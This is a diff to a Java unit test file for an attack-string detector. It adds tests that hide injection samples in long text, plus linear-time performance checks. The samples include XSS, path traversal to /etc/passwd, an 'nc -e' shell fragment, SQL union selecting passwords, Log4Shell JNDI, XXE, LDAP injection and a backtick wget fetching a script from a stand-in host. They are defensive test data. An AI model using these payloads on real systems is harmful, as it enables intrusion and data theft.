@@ -6,6 +6,7 @@ import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
+import java.util.Random;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
@@ -102,21 +103,126 @@ class DetectorTest {
     assertThat(Detector.inspect(value)).isEmpty();
   }
 
-  @Test
-  void anAttackIsFoundBehindMuchProseAndBeforeIt() {
-    String prose = "We liked the shop & its staff; it's a joy (really) to come back. ";
-    for (String attack : List.of("<script>f(1)</script>", "../../../../etc/passwd", "|nc -e x 1")) {
-      assertThat(Detector.inspect(prose.repeat(90) + attack + prose.repeat(30))).isNotEmpty();
-      assertThat(Detector.inspect(prose.repeat(2_000) + attack)).isNotEmpty();
+  /** Signs that begin something, so that many rules have to be tried everywhere. */
+  private static final List<String> BITS =
+      List.of(
+          "(",
+          "{{",
+          "${",
+          "#{",
+          "<",
+          "</",
+          "<svg on",
+          "<a ",
+          "&#",
+          "&#x3c;",
+          "%25",
+          "%25%32",
+          "%u0041",
+          "\\u00",
+          "\\x3c",
+          "..",
+          "../",
+          "..%c0",
+          "0x2e0x2e",
+          "'",
+          "\"",
+          "`",
+          "$(",
+          ";",
+          "|",
+          "&",
+          "; cat ",
+          "`ls ",
+          "' or ",
+          "union ",
+          "(select ",
+          "concat(",
+          "case when ",
+          "/*",
+          "/**/",
+          "--",
+          "#\n",
+          "@@",
+          "*/",
+          "\n",
+          " ",
+          "=",
+          "on",
+          "[]",
+          "\"a\":",
+          "$ne",
+          "a=b&",
+          "+AD",
+          "\u00bc",
+          "\ufffd",
+          "or(select ",
+          "x",
+          "AAAA");
+
+  private static final String PROSE =
+      "We liked the shop & its staff; it's a joy (really) to come back. <b>Size</b> = \"L\", 5 > 3! ";
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "<script>f(1)</script>",
+        "../../../../etc/passwd",
+        "|nc -e x 1",
+        "1 union select name, password from users--",
+        "${jndi:ldap://a/b}",
+        "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
+        "*)(uid=*))(|(uid=*",
+        "%3Cimg src=x onerror=alert(1)%3E",
+        "`wget http://a.example/b.sh`"
+      })
+  void anAttackIsFoundWhereverItIsInALongText(String attack) {
+    assertThat(Detector.inspect(PROSE.repeat(2_000))).isEmpty();
+    long seed = new Random().nextLong();
+    Random random = new Random(seed);
+    for (int i = 0; i < 10; i++) {
+      int before = random.nextInt(1_000);
+      String text = PROSE.repeat(before) + attack + " " + PROSE.repeat(1_000 - before);
+      assertThat(Detector.inspect(text)).as("behind %d, seed %d", before, seed).isNotEmpty();
     }
-    assertThat(Detector.inspect(prose.repeat(2_000))).isEmpty();
+  }
+
+  /** Others are tried and lead nowhere before it comes to the one that does. */
+  @Test
+  void anAttackIsFoundAmongManySignsThatOnlyBeginSomething() {
+    for (String bit : BITS) {
+      String noise = bit.repeat(20_000 / bit.length());
+      String text = noise + "\n<script>f(1)</script>\n" + noise;
+      assertThat(kinds(text)).as(bit).contains("cross_site_scripting");
+    }
   }
 
   @Test
-  void noTextIsTooLongOrTooOdd() {
-    for (String bit : List.of("(", "' or ", "%25", "../", "{{", "&#", "\\u00", "/*", ";", "<a ")) {
-      assertThat(Detector.inspect(bit.repeat(100_000 / bit.length()))).isNotNull();
+  void theEvidenceOfALongTextIsWhatWasFoundNotWhereTheTextBegins() {
+    String text =
+        PROSE.repeat(50) + "1 union select name, password from users-- " + PROSE.repeat(50);
+    assertThat(Detector.inspect(text).getFirst().words()).contains("union select");
+  }
+
+  /** A step is one sign looked at once; a second of a processor does some hundred million. */
+  @Test
+  void aTextTwiceAsLongCostsTwiceAsMuchWhateverItIs() {
+    for (String bit : BITS) {
+      for (String text : List.of(bit, "' " + bit, bit + "x' ")) {
+        long once = steps(text.repeat(50_000 / text.length()));
+        long twice = steps(text.repeat(100_000 / text.length()));
+        assertThat(twice).as(text).isLessThan((long) (2.3 * once) + 20_000);
+        assertThat(twice / 100_000).as(text).isLessThan(MOST_STEPS);
+      }
     }
+  }
+
+  private static final long MOST_STEPS = 300;
+
+  private static long steps(String text) {
+    Effort effort = new Effort();
+    List<Evidence> _ = Detector.inspect(text, effort);
+    return effort.steps();
   }
 
   /** A word that a rule is thought to need, and does not, would hide attacks. */
@@ -146,6 +252,14 @@ class DetectorTest {
   })
   void aPatternNeedsItsWords(String pattern, String words) {
     assertThat(Literals.sorted(pattern)).containsExactly(words.split(",", -1));
+  }
+
+  @Test
+  void twoPartsOfAPatternAreNeeded() {
+    Literals.Needs needs = Literals.needs("[<>]a*(?:script|on)x?=");
+    assertThat(needs.first()).containsExactlyInAnyOrder("script", "on");
+    assertThat(needs.second()).containsExactly("=");
+    assertThat(Literals.needs("ab.*cde|x.").second()).isEmpty();
   }
 
   @Test
